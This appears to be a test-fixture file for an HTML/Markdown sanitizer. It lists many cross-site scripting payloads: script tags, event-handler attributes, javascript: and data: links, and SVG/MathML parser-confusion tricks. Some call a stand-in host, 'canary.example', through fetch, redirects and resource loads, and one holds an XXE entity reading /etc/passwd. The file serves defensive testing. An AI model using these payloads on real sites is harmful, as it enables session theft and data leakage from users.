// Payloads that are HTML, or want to become some. `§` stands for the number of the place that a payload is planted in, and
// `zhit(§)` is what must never run. None of them has a line break: they go into every place.
const RUN = 'zhit(§)';

const SCRIPTS = [
  `<script>${RUN}</script>`, `<ScRiPt>${RUN}</sCrIpT>`, `<script >${RUN}</script >`, `<script/x>${RUN}</script/x>`, `<script>${RUN}//`,
  `<script\f>${RUN}</script\f>`, `<script type=module>${RUN}</script>`, '<script src=//canary.example/§.js></script>',
  `<script src="data:text/javascript,${RUN}"></script>`, `<scr<script>ipt>${RUN}</scr</script>ipt>`, `<<script>${RUN}//<</script>`,
  `</script><script>${RUN}</script>`, `</ScRiPt ><script>${RUN}</script>`, `<!--<script>${RUN}</script>`,
  `<noscript><p title="</noscript><script>${RUN}</script>">`, '<script>document.title="zhit§"</script>', '<script>alert(§)</script>',
  '<script>confirm(§)</script>', '<script>prompt(§)</script>', '<script>location="//canary.example/§"</script>',
  '<script nonce=x>fetch("//canary.example/§")</script>',
  `<script>eval(atob('${Buffer.from('zhit').toString('base64')}'))(§)</script>`, `</title><script>${RUN}</script>`, `</textarea><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`, `</noscript><script>${RUN}</script>`, `</p></div></main></body></html><script>${RUN}</script>`,
  `--><script>${RUN}</script>`, `--!><script>${RUN}</script>`, `]]><script>${RUN}</script>`, `?><script>${RUN}</script>`, `<%00script>${RUN}</script>`,
];

/** Comments and their like, which hide what follows them up to their end. */
export const HIDING = [
  `<!--><script>${RUN}</script>`, `<!---><script>${RUN}</script>`, `<!-- --!><script>${RUN}</script>-->`, `<!-- --><script>${RUN}</script>`,
  `<![CDATA[><script>${RUN}</script>]]>`, `<![CDATA[<svg onload=${RUN}>]]>`, `<?xml version="1.0"?><script>${RUN}</script>`, `<?x <svg onload=${RUN}>?>`,
  `<!x><svg onload=${RUN}>`, '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;', `<!--[if true]><script>${RUN}</script><![endif]-->`,
];

const NAMESPACES = [
  `<svg onload=${RUN}>`, `<svg/onload=${RUN}//`, `<svg><script>${RUN}</script></svg>`, `<svg><script href="data:text/javascript,${RUN}"/></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`, `<svg><set onbegin=${RUN} attributename=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,%3Csvg id='x' xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/%3E#x"/></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${RUN}</script>"></iframe></foreignObject></svg>`,
  `<svg></p><style><p id="</style><script>${RUN}</script>">`, `<svg><style><script>${RUN}</script></style></svg>`,
  `<svg><image href="//canary.example/§"/></svg>`, `<math href="javascript:${RUN}">x</math>`, `<math><mtext href="javascript:${RUN}">x</mtext></math>`,
  `<math><annotation-xml encoding="text/html"><script>${RUN}</script></annotation-xml></math>`,
  `<math><mtext><table><mglyph><style><!--</style><svg title="--&gt;&lt;script&gt;${RUN}&lt;/script&gt;">`,
  `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><svg onload=${RUN}>">`,
  `<svg><title><details open ontoggle=${RUN}></title></svg>`, `<svg><desc><input autofocus onfocus=${RUN}></desc></svg>`,
];

/** Elements that no page of an author's may have. */
const FOREIGN = [
  `<body onload=${RUN}>`, `<body onpageshow=${RUN}>`, `<html onmouseover=${RUN}>`, `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`, `<iframe onload=${RUN}></iframe>`, '<iframe src=//canary.example/§></iframe>',
  `<object data="javascript:${RUN}"></object>`, `<object data="data:text/html,<script>parent.${RUN}</script>"></object>`, `<embed src="javascript:${RUN}">`,
  '<embed src=//canary.example/§>', `<form action="javascript:${RUN}"><button>x</button></form>`,
  `<form><button formaction="javascript:${RUN}">x</button></form>`,
  `<form id=x></form><button form=x formaction="javascript:${RUN}">x</button>`, `<input autofocus onfocus=${RUN}>`, `<input type=image src=x onerror=${RUN}>`,
  `<select autofocus onfocus=${RUN}><option>x</select>`, `<textarea autofocus onfocus=${RUN}>x</textarea>`, `<textarea><svg onload=${RUN}></textarea>`,
  `<button autofocus onfocus=${RUN}>x</button>`, `<video><source onerror=${RUN}></video>`, `<video src=x onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}></audio>`,
  '<video poster=//canary.example/§></video>', `<marquee onstart=${RUN}>x</marquee>`, '<base href=//canary.example/§/>', `<base href="javascript:/-${RUN}//">`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`, '<meta http-equiv=refresh content="0;url=//canary.example/§">',
  '<meta http-equiv="Content-Security-Policy" content="script-src * \'unsafe-inline\'">', '<link rel=stylesheet href=//canary.example/§.css>',
  '<link rel=prefetch href=//canary.example/§>', `<link rel=stylesheet href=x onerror=${RUN}>`, '<style>@import "//canary.example/§"</style>',
  '<style>*{background:url(//canary.example/§)}</style>', `<style onload=${RUN}></style>`, '<p style="background:url(//canary.example/§)">x</p>',
  `<p style="animation:x 1s" onanimationstart=${RUN}>x</p>`, `<template><script>${RUN}</script></template>`,
  `<div><template shadowrootmode=open><svg onload=${RUN}></template></div>`,
  `<frameset onload=${RUN}><frame src="javascript:${RUN}">`, `<dialog open oncancel=${RUN}>x</dialog>`, `<x tabindex=0 onclick=${RUN}>x</x>`,
  `<x-y onmouseover=${RUN}>x</x-y>`, `<image src=x onerror=${RUN}>`,
  `<p/onclick=${RUN}>x`, `<plaintext><svg onload=${RUN}>`, `<xmp><svg onload=${RUN}></xmp>`, `<noembed><svg onload=${RUN}></noembed>`,
  `<title><svg onload=${RUN}></title>`,
  '<table background=//canary.example/§><td>x</table>', `<isindex action="javascript:${RUN}" type=submit>`, `<portal src="javascript:${RUN}"></portal>`,
  `<div popover id=x onbeforetoggle=${RUN}>x</div><button popovertarget=x>x</button>`,
  `<input type=hidden oncontentvisibilityautostatechange=${RUN} style="content-visibility:auto">`,
];

/** The elements that are allowed, with what is not. */
const ALLOWED = [
  `<details open ontoggle=${RUN}><summary onclick=${RUN}>s</summary>x</details>`, `<details ontoggle=${RUN}>x</details>`,
  `<div lang=en onmouseover=${RUN}>x</div>`,
  `<span lang=en onclick=${RUN} style="background:url(//canary.example/§)">x</span>`, `<span dir=ltr onpointerenter=${RUN} tabindex=0>x</span>`,
  `<span lang='en" onclick="${RUN}'>x</span>`, `<span lang="en&quot; onclick=&quot;${RUN}">x</span>`, `<span dir='"><script>${RUN}</script>'>x</span>`,
  `<div dir='ltr" onclick="${RUN}'>x</div>`, `<abbr title='" onmouseover="${RUN}'>x</abbr>`,
  `<abbr title="&quot;&gt;&lt;script&gt;${RUN}&lt;/script&gt;">x</abbr>`,
  `<abbr title=x onmouseover=${RUN}>x</abbr>`, `<abbr title=a title=b onclick=${RUN}>x</abbr>`, `<abbr title="a&#0;b&#x1b;" onclick=${RUN}>x</abbr>`,
  `<kbd onclick=${RUN}>x</kbd>`,
  `<sub id=_main onfocus=${RUN} tabindex=0>x</sub>`, `<mark contenteditable onblur=${RUN}>x</mark>`, `<small popover ontoggle=${RUN}>x</small>`,
  `<sup class=answers accesskey=x onclick=${RUN}>x</sup>`, `<br onclick=${RUN}>`, `<figure onclick=${RUN}><figcaption onclick=${RUN}>c</figcaption></figure>`,
  `<a href="/index.md" onclick=${RUN}>x</a>`, '<a href="/index.md" target=_blank ping=//canary.example/§>x</a>',
  '<a id=guideReader name=guideSearch href="/index.md">x</a>',
  `<a href="/index.md" style="animation:x 1s" onanimationstart=${RUN}>x</a>`, `<a href="/index.md" title='"><svg onload=${RUN}>'>x</a>`,
  `<img src="/dot.svg" alt=a onload=${RUN}>`, `<img src="/dot.svg" alt='" onload="${RUN}'>`,
  `<img src="/dot.svg" alt="&quot; onload=&quot;${RUN}" srcset="//canary.example/§">`,
  `<img src="/dot.svg" alt=a usemap=#x lowsrc=//canary.example/§ dynsrc=javascript:${RUN}>`, `<a href="/index.md"><kbd onclick=${RUN}></a>x</kbd>`,
  `<kbd><sub onclick=${RUN}></kbd></sub>`,
  `<mark onclick=${RUN}`, '<a href=', '<a href="', `<abbr title="x onclick=${RUN}>`, `</kbd><svg onload=${RUN}>`, `<KBD/onclick=${RUN}/>x</KBD>`,
  `<a href="https://a.example/&quot; onclick=&quot;${RUN}">x</a>`, `<a href='https://a.example/" onclick="${RUN}'>x</a>`,
];

/** All that an author may write, though it shows as text. */
export const TAGS = [...SCRIPTS, ...NAMESPACES, ...FOREIGN, ...ALLOWED];

/** Each has an address that is none, or that could run: an error where it is Markdown. */
export const REFUSED_TAGS = [
  `<!--<script><img src=x onerror=${RUN}>`, `<svg><a xlink:href="javascript:${RUN}"><text y=20>x</text></a></svg>`,
  `<svg><a><animate attributeName=href to="javascript:${RUN}"/><text y=20>x</text></a></svg>`,
  `<math><a xlink:href="javascript:${RUN}">x</a></math>`, `<picture><source srcset=//canary.example/§><img onerror=${RUN}></picture>`,
  `<img src=x onerror=${RUN}>`, `<img src=x onerror=${RUN} alt=a>`, `<img/src=x/onerror=${RUN}/alt=a>`, `<IMG SRC="x" ONERROR="${RUN}" ALT="">`,
  `"><img src=x onerror=${RUN}>`,
  `<img src=//canary.example/§ alt=a>`, `<img src="javascript:${RUN}" alt=a>`, `<img src="data:image/svg+xml,<svg onload=${RUN}>" alt=a>`,
  `<a href=javascript:${RUN}>x</a>`,
  `<a href="javascript:${RUN}" onclick=${RUN}>x</a>`, `<a href="/index.md" href="javascript:${RUN}">x</a><a href="javascript:${RUN}" href="/index.md">x</a>`,
  `<a/href='&#106;avascript:${RUN}'>x</a>`, `<a href="jav&#x09;ascript:${RUN}">x</a>`, `<kbd><a href="vbscript:${RUN}">x</a></kbd>`,
  `<a href="data:text/html,<script>${RUN}</script>">x</a>`,
  `[x](javascript:${RUN})`, `[x](<javascript:${RUN}>)`, `![x](javascript:${RUN})`, `![x](data:image/svg+xml,x)`, `<javascript:${RUN}>`,
  `[![x](/dot.svg)](javascript:${RUN})`,
  `**[x](JAVASCRIPT:${RUN})**`, `[x](data:text/html;base64,PHNjcmlwdD4=)`, `[x](\\javascript:${RUN})`, `![x](//canary.example/§)`,
  `[x](java&Tab;script:${RUN})`, `[x](#"onclick="${RUN})`,
];
